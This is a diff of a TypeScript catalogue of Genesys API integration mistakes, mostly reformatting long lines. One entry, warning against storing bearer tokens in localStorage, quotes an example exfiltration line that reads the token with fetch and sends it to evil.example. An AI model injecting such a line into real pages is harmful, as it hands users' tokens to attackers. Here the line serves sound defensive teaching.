@@ -196,7 +196,12 @@ export const MISTAKES: readonly Mistake[] = [
       },
     ],
     probe: {
-      wrong: { method: "POST", path: AGGREGATES_QUERY, auth: "bearer", body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["interactions", "handled"] }) },
+      wrong: {
+        method: "POST",
+        path: AGGREGATES_QUERY,
+        auth: "bearer",
+        body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["interactions", "handled"] }),
+      },
       right: {
         method: "POST",
         path: AGGREGATES_QUERY,
@@ -247,7 +252,12 @@ export const MISTAKES: readonly Mistake[] = [
         auth: "bearer",
         body: ({ interval }) => ({ interval, select: ["conversationId", "conversationStart"], pageSize: 25, cursor: null }),
       },
-      right: { method: "POST", path: DETAILS_QUERY, auth: "bearer", body: ({ interval }) => ({ interval, paging: { pageSize: 25, pageNumber: 1 } }) },
+      right: {
+        method: "POST",
+        path: DETAILS_QUERY,
+        auth: "bearer",
+        body: ({ interval }) => ({ interval, paging: { pageSize: 25, pageNumber: 1 } }),
+      },
       documented: "Genesys documents paging and no select, pageSize or cursor field; how it answers unknown fields is not documented.",
     },
   },
@@ -278,7 +288,12 @@ callbacks: {
 // Server code reads the token and calls Genesys; the browser calls only this app.`,
     },
     why: "Every script running on the page can read localStorage, so a token kept there is one injected script away from being sent elsewhere. The Backend-for-Frontend pattern keeps tokens on the server and gives the browser only an HttpOnly session cookie; this app does that with an Auth.js JWT session.",
-    sources: [{ label: "RFC 10017 (OAuth 2.0 for Browser-Based Applications) §6.1, Backend for Frontend", href: "https://www.rfc-editor.org/rfc/rfc10017#section-6.1" }],
+    sources: [
+      {
+        label: "RFC 10017 (OAuth 2.0 for Browser-Based Applications) §6.1, Backend for Frontend",
+        href: "https://www.rfc-editor.org/rfc/rfc10017#section-6.1",
+      },
+    ],
     consequence: {
       wrong:
         "Any script on the page, an injected one (XSS) or a compromised dependency, can read it: fetch('https://evil.example/?t=' + localStorage.getItem('token')) hands the bearer token to whoever runs evil.example, who can use it until it expires.",
@@ -365,7 +380,12 @@ function lastFullHour(now: number): string {
   return `${new Date(end - HOUR_MS).toISOString()}/${new Date(end).toISOString()}`;
 }
 
-async function exchange(send: typeof fetch, request: ProbeRequest, context: ProbeContext, token: string): Promise<{ status: number; body: unknown }> {
+async function exchange(
+  send: typeof fetch,
+  request: ProbeRequest,
+  context: ProbeContext,
+  token: string,
+): Promise<{ status: number; body: unknown }> {
   const headers = new Headers({ Accept: "application/json" });
   if (request.auth === "basic") headers.set("Authorization", `Basic ${btoa(`${context.clientId}:${context.clientSecret}`)}`);
   if (request.auth === "bearer") headers.set("Authorization", `Bearer ${token}`);
@@ -387,7 +407,13 @@ async function exchange(send: typeof fetch, request: ProbeRequest, context: Prob
 function answerOf(request: ProbeRequest, answer: { status: number; body: unknown }): ProbeAnswer {
   const shown = isRecord(answer.body) ? essentials(answer.body) : answer.body;
   const text = typeof shown === "string" ? shown : JSON.stringify(shown);
-  const code = isRecord(answer.body) ? (typeof answer.body.code === "string" ? answer.body.code : typeof answer.body.error === "string" ? answer.body.error : undefined) : undefined;
+  const code = isRecord(answer.body)
+    ? typeof answer.body.code === "string"
+      ? answer.body.code
+      : typeof answer.body.error === "string"
+        ? answer.body.error
+        : undefined
+    : undefined;
   return {
     request: `${request.method} ${request.path}`,
     status: answer.status,
